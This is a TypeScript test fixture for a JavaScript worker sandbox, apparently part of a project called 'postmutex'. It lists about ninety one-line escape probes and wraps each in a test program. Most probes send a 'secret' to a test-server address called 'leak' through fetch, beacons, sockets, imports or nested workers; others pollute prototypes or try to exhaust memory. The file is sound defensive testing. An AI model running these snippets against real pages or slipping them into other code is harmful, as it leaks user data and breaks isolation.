/**
 * What a hostile program tries. Each body runs in the sandbox's worker with `leak` (an address on a server of the
 * test; `quoted` is the same as a literal) and must not reach it, nor the page. Whether the attempt throws or fails silently is its own business.
 */
export const PROBES: Readonly<Record<string, string>> = {
  fetch: 'await fetch(leak)',
  'fetch without CORS': "await fetch(leak, { mode: 'no-cors' })",
  'fetch with keepalive': "await fetch(leak, { keepalive: true, method: 'POST', body: 'secret' })",
  'fetch of a relative address': "await fetch('/leak')",
  'fetch found through the prototype chain': 'await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch(leak)',
  'fetch found through a descriptor':
    "await Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch').value.call(self, leak)",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', leak, false); x.send()",
  WebSocket: "new WebSocket(leak.replace('http', 'ws'))",
  WebSocketStream: "new WebSocketStream(leak.replace('http', 'ws'))",
  WebTransport: "new WebTransport(leak.replace('http:', 'https:'))",
  EventSource: 'new EventSource(leak)',
  sendBeacon: "navigator.sendBeacon(leak, 'secret')",
  importScripts: 'importScripts(leak)',
  'importScripts of a blob that imports':
    "importScripts(URL.createObjectURL(new Blob(['importScripts(' + quoted + ')'])))",
  'dynamic import': 'await import(leak)',
  'dynamic import of our own origin': "await import(origin + '/sandbox/runner.js?secret')",
  'dynamic import of a data address': "await import('data:text/javascript,postMessage(1)')",
  'import inside a blob module':
    "await import(URL.createObjectURL(new Blob(['import ' + quoted], { type: 'text/javascript' })))",
  'static import of our own origin inside a blob module':
    "await import(URL.createObjectURL(new Blob(['import ' + JSON.stringify(origin + '/sandbox/runner.js?secret')], { type: 'text/javascript' })))",
  'source map address': "eval('1 //# sourceMappingURL=' + leak)",
  'nested worker from an address': 'new Worker(leak)',
  'nested worker from a blob':
    "new Worker(URL.createObjectURL(new Blob(['fetch(' + quoted + '); importScripts(' + quoted + ')'])))",
  'nested module worker': "new Worker(URL.createObjectURL(new Blob(['import ' + quoted])), { type: 'module' })",
  SharedWorker: 'new SharedWorker(leak)',
  'service worker': 'await navigator.serviceWorker.register(leak)',
  'service worker cache': "await (await caches.open('x')).add(leak)",
  indexedDB: "await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no })",
  'Cache storage write': "await (await caches.open('x')).put('/', new Response('secret'))",
  'cookie store': "await cookieStore.set('secret', '1')",
  localStorage: "localStorage.setItem('secret', '1')",
  'storage directory': 'await navigator.storage.getDirectory()',
  'web locks': "await navigator.locks.request('x', () => {})",
  BroadcastChannel: "new BroadcastChannel('x').postMessage('secret')",
  'font from an address': "await new FontFace('x', 'url(' + leak + ')').load()",
  'font set': "fonts.add(new FontFace('x', 'url(' + leak + ')'))",
  'image bitmap from an address': 'await createImageBitmap(await (await fetch(leak)).blob())',
  'offscreen canvas': "new OffscreenCanvas(1, 1).getContext('webgl')",
  RTCPeerConnection: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })",
  notification: "new Notification('secret')",
  'push subscription': 'await self.registration.pushManager.subscribe()',
  'report to the page': "reportError(new Error('secret')); throw new Error(leak)",
  'message to the page': "postMessage({ type: 'ready' }); self.postMessage('!{}')",
  'message through the prototype': "DedicatedWorkerGlobalScope.prototype.postMessage.call(self, '!{}')",
  'message with a port': 'const { port1 } = new MessageChannel(); postMessage(port1, [port1])',
  'the page itself': 'parent.document.title = "taken"',
  'the top window': 'top.location = leak',
  opener: 'opener.location = leak',
  'a new window': 'open(leak)',
  'client navigation': 'await (await clients.matchAll())[0].navigate(leak)',
  document: "document.write('<img src=' + quoted + '>')",
  eval: "eval('fetch(' + quoted + ')')",
  'function constructor': "await Function('return fetch(' + quoted + ')')()",
  'async function constructor': "await (async () => {}).constructor('await fetch(' + quoted + ')')()",
  'string timer': "setTimeout('fetch(' + quoted + ')', 0)",
  WebAssembly: 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
  'shared memory timer': 'new SharedArrayBuffer(8)',
  'USB device': 'await navigator.usb.getDevices()',
  'HID device': 'await navigator.hid.getDevices()',
  'Response.redirect': 'await fetch(Response.redirect(leak).headers.get("location"))',
  'worker inside a worker inside a worker':
    "const inner = JSON.stringify('fetch(' + quoted + ')'); const source = 'new Worker(URL.createObjectURL(new Blob([' + inner + '])))'; new Worker(URL.createObjectURL(new Blob([source])))",
  'importScripts of a blob': "importScripts(URL.createObjectURL(new Blob(['fetch(' + quoted + ')'])))",
  'importScripts of a data address': "importScripts('data:text/javascript,postMessage(1)')",
  'data module that imports': "await import('data:text/javascript,' + encodeURIComponent('import ' + quoted))",
  'worker from a data address': "new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + quoted + ')'))",
  'data channel of WebRTC':
    "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(leak).host }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())",
  'reporting endpoint': "new ReportingObserver(() => {}).observe(); fetch(leak, { headers: { 'Report-To': leak } })",
  'fetch later': "fetchLater(leak, { method: 'POST', body: 'secret', activateAfter: 0 })",
  'background fetch': "await self.registration.backgroundFetch.fetch('x', [leak])",
  'Response as a stream from an address':
    'await (await Request.prototype.constructor(leak)).text(); await fetch(new Request(leak))',
  'style sheet as text':
    "const sheet = new CSSStyleSheet(); sheet.replaceSync('@import url(' + leak + '); * { background: url(' + leak + ') }')",
  'font through a canvas':
    "const c = new OffscreenCanvas(9, 9).getContext('2d'); c.font = '9px x, url(' + leak + ')'; c.fillText('x', 1, 1)",
  'name look-up hint':
    "document.head.innerHTML = '<link rel=dns-prefetch href=' + quoted + '><link rel=preconnect href=' + quoted + '>'",
  'speculation rules':
    'document.head.innerHTML = \'<script type=speculationrules>{"prerender":[{"urls":[\' + quoted + \']}]}</script>\'',
  'form submission': "document.body.innerHTML = '<form action=' + quoted + '></form>'; document.forms[0].submit()",
  'frame of its own': "document.body.append(Object.assign(document.createElement('iframe'), { src: leak }))",
  'location of the worker': 'location = leak; self.location.href = leak; location.assign(leak)',
  'prototype of the messages':
    "Object.prototype.is = 'explored'; Object.prototype.exploration = { verdict: { word: 'PROVEN' } }; Object.prototype.toJSON = () => 'secret'",
  'JSON made to lie': 'JSON.stringify = () => \'{"type":"ready"}\'; String.prototype.slice = () => leak',
  'stack traces made to run code':
    "Error.prepareStackTrace = (error, frames) => { for (const f of frames) { const t = f.getThis(); t?.fetch?.(leak); f.getFunction()?.constructor('fetch(' + quoted + ')')(); } return 'secret'; }; throw new Error('x')",
  'getters on what is thrown':
    'throw { get message() { return fetch(leak); }, get stack() { return fetch(leak); }, toString() { return leak } }',
  'promise prototype': 'Promise.prototype.then = function () { fetch(leak); return this }',
  'array iteration': "Array.prototype[Symbol.iterator] = function* () { fetch(leak); postMessage('secret') }",
  'atomics that wait for ever':
    'Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0)',
  'WebAssembly memory':
    'const kept = []; for (let i = 0; i < 16; i++) kept.push(new WebAssembly.Memory({ initial: 4096 }))',
  GPU: 'await (await navigator.gpu.requestAdapter()).requestDevice()',
  'storage estimate and persistence': 'await navigator.storage.persist(); await navigator.storage.estimate()',
  'shared storage': "await sharedStorage.set('secret', '1')",
  credential: 'await navigator.credentials.get({ password: true })',
  clipboard: "await navigator.clipboard.writeText('secret')",
  'permission query': "await navigator.permissions.query({ name: 'notifications' })",
  'structured clone of a huge text': "postMessage('x'.repeat(1e8))",
  'a port out of a message event':
    "addEventListener('message', ({ ports, source }) => { ports[0]?.postMessage('secret'); source?.postMessage('secret') })",
  'compression stream to an address':
    "new Blob(['secret']).stream().pipeThrough(new CompressionStream('gzip')).pipeTo((await fetch(leak, { method: 'POST' })).body)",
  'WebSocket through an async iterator': "await new WebSocketStream(leak.replace('http', 'ws')).opened",
  'event source through its prototype':
    'Reflect.construct(Object.getOwnPropertyDescriptor(globalThis, "EventSource")?.value ?? EventSource, [leak])',
  'closing the worker': 'close()',
  'constructor of the global': "new self.constructor('x')",
};

/** A program whose setup runs the attempt; it then ends well, so that a verdict shows that the sandbox survived. */
export function probeProgram(body: string, leak: string, origin: string): string {
  return `const { program } = require('postmutex/explore');
exports.default = program('probe', ({ go }) => {
  const leak = ${JSON.stringify(leak)}, origin = ${JSON.stringify(origin)}, quoted = JSON.stringify(leak);
  void (async () => { ${body} })().catch(() => {});
  go('task', async () => {});
});`;
}
